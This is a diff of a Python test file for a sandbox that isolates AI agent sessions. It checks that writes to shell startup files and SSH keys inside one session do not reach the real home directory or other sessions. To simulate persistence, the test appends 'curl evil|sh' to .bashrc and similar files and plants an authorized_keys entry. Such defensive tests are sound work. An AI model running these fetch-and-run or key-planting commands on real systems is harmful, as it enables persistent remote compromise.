@@ -257,22 +257,24 @@ def test_other_sessions_and_the_store_are_unreachable(actor: Actor) -> None:
     assert p.stdout.strip() == "done", p.stdout
 
 
-def test_agent_home_startup_files_are_read_only(actor: Actor) -> None:
+def test_agent_home_startup_files_changed_inside_stay_in_the_session(actor: Actor) -> None:
     repo = actor.make_repo()
     aihome = actor.home / "aihome"
     aihome.mkdir()
     (aihome / ".bashrc").write_text("# mine\n")
     actor.own(aihome)
     p = inside(actor, repo, "for f in .bashrc .profile .zshrc .gitconfig .bash_profile; do "
-               "echo 'curl evil|sh' >> ~/$f 2>/dev/null && echo WROTE $f; done; "
-               "mkdir -p ~/.ssh 2>/dev/null; "
-               "echo key > ~/.ssh/authorized_keys 2>/dev/null && echo WROTE ssh; "
-               "rm -f ~/.bashrc 2>/dev/null; test -e ~/.bashrc && echo still; "
-               "echo ok > ~/notes.txt && echo free")
-    assert "WROTE" not in p.stdout, p.stdout
-    assert "still" in p.stdout and "free" in p.stdout  # the rest of the home stays writable
+               "echo 'curl evil|sh' >> ~/$f && echo WROTE $f; done; "
+               "mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys && echo WROTE ssh",
+               session="one")
+    assert p.stdout.count("WROTE") == 6, p.stdout  # the session's own copy is writable
     assert (aihome / ".bashrc").read_text() == "# mine\n"
-    assert "evil" not in (aihome / ".profile").read_text()
+    for f in (".profile", ".zshrc", ".bash_profile", ".ssh"):
+        assert not (aihome / f).exists()
+    assert "evil" not in (aihome / ".gitconfig").read_text()
+    p = inside(actor, repo, "cat ~/.bashrc ~/.profile ~/.gitconfig ~/.ssh/authorized_keys",
+               session="two")
+    assert "# mine" in p.stdout and "evil" not in p.stdout and "key" not in p.stdout, p.stdout
 
 
 def test_hidden_paths_are_empty_inside(actor: Actor) -> None:
@@ -362,7 +364,6 @@ def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(
                                    "exit 1\n")
     (fakebin / "pasta").chmod(0o755)
     actor.own(fakebin)
-    marker = actor.home / "aihome" / "ran.txt"
     env = {"PATH": f"{fakebin}:{actor.env['PATH']}"}
     p = actor.agent("run", "-s", "nonet", "--net", "isolated", "--",
                     "sh", "-c", "echo ran > ~/ran.txt", cwd=repo, env=env)
@@ -370,7 +371,7 @@ def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(
     assert [line for line in p.stderr.splitlines() if line.startswith("git agent:")], p.stderr
     assert "Traceback" not in p.stderr
     time.sleep(0.5)
-    assert not marker.exists()  # the agent never started
+    assert not list(actor.base.rglob("ran.txt"))  # the agent never started
     assert not list((actor.home / ".local/state/git-agent").glob("*/sessions/nonet"))
     left = subprocess.run(["pgrep", "-f", "echo ran > ~/ran.txt"], capture_output=True, text=True)
     assert left.stdout.strip() == "", left.stdout
